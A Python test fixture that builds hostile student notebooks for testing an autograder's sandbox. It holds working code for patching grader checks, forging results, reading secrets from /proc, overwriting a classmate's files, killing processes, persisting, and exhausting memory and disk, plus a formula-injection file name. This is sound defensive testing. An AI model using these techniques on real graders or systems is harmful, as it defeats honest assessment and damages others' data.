"""Hostile submissions: one notebook per attack class, for tests/test_hostile.py.

Each attack is chapter 1's student notebook (the assignment ``make
assignment CHAPTER=01`` writes) with a student's cheating or sabotage
added: a cell after the set-up cell, answer cells replaced, or a cell at
the end. The code is plain text with the grader's paths (which a student
could guess or search for) written in, so the same notebooks can be graded
by the book's grader and, for comparison, by the old one (``python
tests/_grading_attacks.py OLD_TREE``, which prints the score each attack got
there).

Attack code never does anything that would harm the machine if it ran with
no sandbox at all, as root: it writes only to the paths it is given (temp
folders) and to marker files it names, kills only its parent, never
``kill(-1)`` as root, and the memory and disk attacks are left out of the
old-grader comparison.
"""

from __future__ import annotations

import json
import os
import sys
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

#: The correct answer to ch1-ex-growth (2 points): attacks that stop a
#: notebook half-way answer it first, to show partial credit is kept.
GROWTH = "layers_needed = [35, 20]"
#: A marker in the command line of the process the "persist" attack leaves.
SLEEPER = "explodebook-hostile-sleeper"
#: The file the "persist" attack tries to leave in the package's folders.
MARKER = "explodebook_hostile_marker.txt"
#: The environment variable holding the grader's secret (set by the test).
SECRET_VAR = "EXPLODEBOOK_GRADER_SECRET"

# Replace the checks' helpers and the functions they call, so that every
# check passes whatever the answer (works when checks run in the notebook's
# own process, as in ``otter run``).
_TAMPER = """
def _tamper():
    import numpy as np
    import explodebook
    import explodebook.coursework.expect as ex
    import explodebook.theory as th
    import explodebook.backends.torch as tb
    ex.answered = lambda name, value: None
    ex.numbers = lambda name, value, count: np.array([35.0, 20.0])
    ex.number = (lambda name, value, low=-1e300, high=1e300:
                 1.1 if "stable" in name else 0.6)
    ex.boolean = lambda name, value: True
    ex.choice = lambda name, value, options: options[0]
    class _Product:
        norms = [1.0]
    th.random_matrix_product = lambda *args, **kwargs: _Product()
    class _Run:
        def __init__(self, spec):
            self.spec = spec
            self.diverged = spec.init_scale > 1.12
            self.first_nonfinite_step = 1 if self.diverged else None
            self.loss = np.ones(300)
    fake = lambda spec, framework="torch", **kwargs: _Run(spec)
    tb.run = fake
    explodebook.run = fake
    import math
    math.isclose = lambda *args, **kwargs: True
"""


@dataclass(frozen=True)
class Context:
    """Paths the attacks aim at (the test knows them; a student could guess)."""

    classmate: Path
    csv: Path
    feedback: Path
    autograder: Path
    solution: Path


@dataclass(frozen=True)
class Attack:
    """One attack class.

    Attributes:
        name: the notebook's name (and the attack's).
        summary: what the student tries.
        after_setup: code of a cell inserted after the set-up cell.
        answers: replacement code of answer cells, by question label.
        at_end: code of a cell added at the end.
        old_grader: whether it is safe to try on a grader without sandbox.
    """

    name: str
    summary: str
    after_setup: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    at_end: str = ""
    old_grader: bool = True


def attacks(ctx: Context) -> list[Attack]:
    """Every attack class, aimed at ``ctx``'s paths."""
    p = {k: str(v) for k, v in vars(ctx).items()}
    return [
        Attack(
            "tamper_grader",
            "patch otter's test runner so that every check passes",
            after_setup="""
                try:
                    from otter.test_files.abstract_test import TestCaseResult
                    from otter.test_files.exception_test import ExceptionTestFile
                    def _run(self, env):
                        self.test_case_results = [
                            TestCaseResult(test_case=tc, message="passed", passed=True)
                            for tc in self.test_cases]
                    ExceptionTestFile.run = _run
                except Exception as error:
                    print("could not patch otter:", error)
            """,
        ),
        Attack(
            "tamper_checks",
            "patch the checks' helpers (expect, theory, the backends, math.isclose); wrong answers",
            after_setup=_TAMPER + "\n_tamper()\n",
            answers={
                "ch1-ex-growth": "layers_needed = [-1.0, 0.5]",
                "ch1-ex-product": "boundary_scale = 5.0",
                "ch1-ex-depth": "largest_stable_scale = 9.0",
                "ch1-ex-sigmoid": "long_term_vanishes = 'no'",
            },
        ),
        Attack(
            "code_in_answers",
            "answers are objects whose methods patch the checks when a check reads them",
            after_setup=_TAMPER + textwrap.dedent("""
                import numpy as np
                class Sneaky(list):
                    def __array__(self, dtype=None, copy=None):
                        _tamper()
                        return np.array([-1.0, 0.5])
                class SneakyFloat(float):
                    def __float__(self):
                        _tamper()
                        return 9.0
            """),
            answers={
                "ch1-ex-growth": "layers_needed = Sneaky([-1.0, 0.5])",
                "ch1-ex-product": "boundary_scale = SneakyFloat(9.0)",
                "ch1-ex-depth": "largest_stable_scale = SneakyFloat(9.0)",
                "ch1-ex-sigmoid": "long_term_vanishes = 'no'",
            },
        ),
        Attack(
            "forge_results",
            "forge the grader's result: otter's pickled results, the runner's answer snapshot",
            after_setup="""
                import pickle
                _dump = pickle.dump
                def _forged_dump(obj, f, *args, **kwargs):
                    for name in list(getattr(obj, "test_files", None) or []):
                        result = obj.get_result(name)
                        result.update_score(result.possible)
                    return _dump(obj, f, *args, **kwargs)
                pickle.dump = _forged_dump
                try:
                    import json
                    import explodebook.coursework.runner as runner
                    def _forged_snapshot(path, names, namespace, errors, done, complete):
                        path.write_text(json.dumps({
                            "answers": {"layers_needed": [-1.0]},
                            "scores": {"ch1-ex-growth": 2, "ch1-ex-product": 2,
                                       "ch1-ex-depth": 2, "ch1-ex-sigmoid": 1},
                            "total": 7, "possible": 7, "points": 7, "complete": True}))
                    runner._snapshot = _forged_snapshot
                except Exception as error:
                    print("no runner here:", error)
            """,
        ),
        Attack(
            "copy_classmate",
            "read a classmate's handed-in notebook and run their answer cells",
            after_setup=f"""
                import json
                try:
                    with open({p['classmate']!r}, encoding="utf-8") as f:
                        _cells = json.load(f)["cells"]
                    for _i, _cell in enumerate(_cells[:-1]):
                        _next = "".join(_cells[_i + 1]["source"])
                        if _cell["cell_type"] == "code" and _next.startswith("grader.check("):
                            get_ipython().run_cell("".join(_cell["source"]))
                    print("copied the classmate's answers")
                except Exception as error:
                    print("could not copy:", type(error).__name__, error)
            """,
            answers={label: "" for label in
                     ("ch1-ex-growth", "ch1-ex-product", "ch1-ex-depth", "ch1-ex-sigmoid")},
        ),
        Attack(
            "snoop",
            "read the grader's files (checks, solutions, a classmate, grades), environment "
            "and its processes' command lines and environments",
            answers={"ch1-ex-product": f"""
                import os
                _found = []
                for _label, _path in [("autograder", {p['autograder']!r}),
                                      ("solutions", {p['solution']!r}),
                                      ("classmate", {p['classmate']!r}),
                                      ("grades", {p['csv']!r})]:
                    try:
                        with open(_path, "rb") as _f:
                            _f.read(16)
                        _found.append(_label)
                    except OSError:
                        pass
                if os.environ.get({SECRET_VAR!r}):
                    _found.append("environment")
                _pid = os.getppid()
                while _pid > 1:
                    try:
                        with open(f"/proc/{{_pid}}/environ", "rb") as _f:
                            if {SECRET_VAR!r}.encode() in _f.read():
                                _found.append(f"environment of process {{_pid}}")
                        with open(f"/proc/{{_pid}}/stat", "rb") as _f:
                            _stat = _f.read()
                        _pid = int(_stat[_stat.rindex(b")") + 2:].split()[1])
                    except (OSError, ValueError):
                        break
                boundary_scale = "snoop found: " + (", ".join(_found) or "nothing")
            """},
        ),
        Attack(
            "sabotage",
            "overwrite a classmate's notebook, forge a row of the grades, delete the feedback, "
            "kill the grader (its parent) and, unless root, every process it may signal",
            answers={"ch1-ex-product": f"""
                import os, shutil, signal
                _done = []
                try:
                    with open({p['classmate']!r}, "w") as _f:
                        _f.write("sabotaged")
                    _done.append("classmate")
                except OSError:
                    pass
                try:
                    with open({p['csv']!r}, "a") as _f:
                        _f.write("forged,row,7\\n")
                    _done.append("grades")
                except OSError:
                    pass
                try:
                    shutil.rmtree({p['feedback']!r})
                    _done.append("feedback")
                except OSError:
                    pass
                if os.getuid() != 0:
                    try:
                        os.kill(-1, signal.SIGKILL)
                    except OSError:
                        pass
                try:
                    os.kill(os.getppid(), signal.SIGKILL)
                    _done.append("parent")
                except OSError:
                    pass
                boundary_scale = "sabotage did: " + (", ".join(_done) or "nothing")
            """},
        ),
        Attack(
            "persist",
            "leave a file in the installed package and a detached process behind",
            at_end=f"""
                import os, site, subprocess, sys
                import explodebook
                _left = []
                for _d in [os.path.dirname(explodebook.__file__), *site.getsitepackages()]:
                    try:
                        with open(os.path.join(_d, {MARKER!r}), "w") as _f:
                            _f.write("left behind")
                        _left.append(_d)
                    except OSError:
                        pass
                subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)",
                                  {SLEEPER!r}], start_new_session=True,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            """,
        ),
        Attack(
            "hang",
            "answer one question, then loop forever",
            answers={"ch1-ex-growth": GROWTH},
            at_end="while True:\n    pass\n",
        ),
        Attack(
            "memory",
            "answer one question, then allocate memory until something gives",
            answers={"ch1-ex-growth": GROWTH},
            at_end="_blocks = []\nwhile True:\n    _blocks.append(b'\\x01' * (256 * 2**20))\n",
            old_grader=False,
        ),
        Attack(
            "crash",
            "answer one question, then crash the Python process (a segmentation fault)",
            answers={"ch1-ex-growth": GROWTH},
            at_end="import ctypes\nctypes.string_at(0)\n",
        ),
        Attack(
            "flood",
            "print 200 MB and answer with three million numbers",
            at_end="""
                for _ in range(200):
                    print("x" * 2**20)
                layers_needed = list(range(3_000_000))
            """,
        ),
        Attack(
            "disk",
            "fill the disk",
            at_end="""
                import os
                _written = 0
                try:
                    for _i in range(10_000):
                        with open(f"fill{_i}.bin", "wb") as _f:
                            for _ in range(32):
                                _f.write(b"\\x01" * 2**20)
                                _written += 1
                except OSError as error:
                    print("stopped:", error)
                for _i in range(10_000):  # room again for the answers
                    try:
                        os.remove(f"fill{_i}.bin")
                    except OSError:
                        break
                boundary_scale = f"disk: wrote {_written} MB"
            """,
            old_grader=False,
        ),
        Attack(
            "network",
            "reach the network (a package registry)",
            answers={"ch1-ex-product": """
                import socket, urllib.request
                _reached = []
                try:
                    socket.getaddrinfo("pypi.org", 443)
                    _reached.append("dns")
                except OSError:
                    pass
                try:
                    urllib.request.urlopen("https://pypi.org/simple/", timeout=5)
                    _reached.append("https")
                except Exception:
                    pass
                boundary_scale = "network: " + (", ".join(_reached) or "unreachable")
            """},
        ),
        Attack(
            "fishing",
            "wrong answers chosen to make every check explain itself",
            answers={
                "ch1-ex-growth": "layers_needed = [34, 19]",
                "ch1-ex-product": "boundary_scale = 0.95",
                "ch1-ex-depth": "largest_stable_scale = 1.45",
                # the chapter's bound (gamma * sigma_max)**k, not the recurrence's norms
                "ch1-ex-sigmoid": "long_term_vanishes = False\n"
                                  "sigmoid_norms = [0.75 ** k for k in range(61)]",
            },
        ),
    ]


#: Files that are not notebooks grading can read, by name.
MALFORMED = {
    "not_json.ipynb": b"\x89PNG\r\n\x1a\n not a notebook at all",
    "format3.ipynb": json.dumps({"nbformat": 3, "nbformat_minor": 0, "worksheets": []}).encode(),
    "deep.ipynb": b"[" * 100_000 + b"]" * 100_000,
    "no_cells.ipynb": json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}}).encode(),
    "homework.py": b"layers_needed = [35, 20]\n",
}
#: A file name a spreadsheet would run as a formula.
FORMULA_NAME = '=HYPERLINK("example.invalid","grade me").ipynb'


def _insert(notebook: nbformat.NotebookNode, index: int, code: str) -> None:
    notebook.cells.insert(index, nbformat.v4.new_code_cell(textwrap.dedent(code).strip()))


def build(attack: Attack, student: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The student notebook with ``attack`` in it."""
    notebook = nbformat.from_dict(json.loads(json.dumps(student)))
    for label, code in attack.answers.items():
        checks = [i for i, c in enumerate(notebook.cells)
                  if c.source == f'grader.check("{label}")']
        notebook.cells[checks[0] - 1].source = textwrap.dedent(code).strip()
    if attack.at_end:
        _insert(notebook, len(notebook.cells), attack.at_end)
    if attack.after_setup:
        setup = next(i for i, c in enumerate(notebook.cells)
                     if c.cell_type == "code" and "grader = otter.Notebook" in c.source)
        _insert(notebook, setup + 1, attack.after_setup)
    return notebook


def write_batch(folder: Path, student: Path, solution: Path, ctx: Context,
                only_old: bool = False) -> list[str]:
    """Write every attack notebook, the malformed files and the classmate."""
    folder.mkdir(parents=True, exist_ok=True)
    source = nbformat.read(student, as_version=4)
    names = []
    for attack in attacks(ctx):
        if only_old and not attack.old_grader:
            continue
        nbformat.write(build(attack, source), folder / f"{attack.name}.ipynb")
        names.append(attack.name)
    if not only_old:
        for name, data in MALFORMED.items():
            (folder / name).write_bytes(data)
        (folder / FORMULA_NAME).write_bytes(student.read_bytes())
    ctx.classmate.write_bytes(solution.read_bytes())
    return names


# -- the same attacks against the old grader (for the report's table) ----------

_OLD = """
import json, sys, time, traceback
from explodebook.coursework.grading import grade_notebook
out = {"attack": None, "classmate": None, "error": ""}
start = time.time()
try:
    r = grade_notebook(sys.argv[1], sys.argv[2])
    out["attack"] = [r.total, r.total_possible, r.error[:200]]
    r = grade_notebook(sys.argv[3], sys.argv[2])
    out["classmate"] = [r.total, r.total_possible, r.error[:200]]
except BaseException as error:
    out["error"] = type(error).__name__ + ": " + str(error)[:300]
out["seconds"] = time.time() - start
print("RESULT " + json.dumps(out), flush=True)
"""


def measure_old(old_tree: Path, workdir: Path, timeout: float = 150.0) -> list[dict]:
    """Grade each attack, then its classmate, with the grader of ``old_tree``."""
    import shutil
    import subprocess

    from explodebook.coursework.assignment import assign

    root = Path(__file__).resolve().parents[1]
    files = assign(root / "chapters" / "01_what_are_exploding_gradients.md",
                   workdir / "assignment", book=root)
    rows = []
    for attack in attacks(Context(workdir / "x", workdir / "x", workdir / "x",
                                  files.autograder, files.solution)):
        if not attack.old_grader:
            rows.append({"attack": attack.name, "note": "not tried (unsafe without a sandbox)"})
            continue
        case = workdir / attack.name
        shutil.rmtree(case, ignore_errors=True)
        (case / "handed-in").mkdir(parents=True)
        ctx = Context(case / "handed-in" / "zz_classmate.ipynb", case / "grades.csv",
                      case / "feedback", files.autograder, files.solution)
        (case / "feedback").mkdir()
        (case / "grades.csv").write_text("submission,total\n")
        ctx.classmate.write_bytes(files.solution.read_bytes())
        notebook = build(next(a for a in attacks(ctx) if a.name == attack.name),
                         nbformat.read(files.student, as_version=4))
        nbformat.write(notebook, case / "handed-in" / f"{attack.name}.ipynb")
        env = dict(os.environ, PYTHONPATH=str(old_tree), MPLBACKEND="agg")
        env[SECRET_VAR] = "old-grader-secret"
        try:
            done = subprocess.run(
                [sys.executable, "-c", _OLD, str(case / "handed-in" / f"{attack.name}.ipynb"),
                 str(files.autograder), str(ctx.classmate)],
                env=env, capture_output=True, text=True, timeout=timeout, cwd=case,
            )
            lines = [l for l in done.stdout.splitlines() if l.startswith("RESULT ")]
            result = json.loads(lines[-1][7:]) if lines else {
                "error": f"the grader process died (exit {done.returncode})"}
        except subprocess.TimeoutExpired:
            result = {"error": f"never finished (stopped after {timeout:.0f} s)"}
        result["attack_name"] = attack.name
        rows.append(result)
        print(json.dumps(result), flush=True)
    return rows


if __name__ == "__main__":
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        for row in measure_old(Path(sys.argv[1]), Path(tmp)):
            print(row)
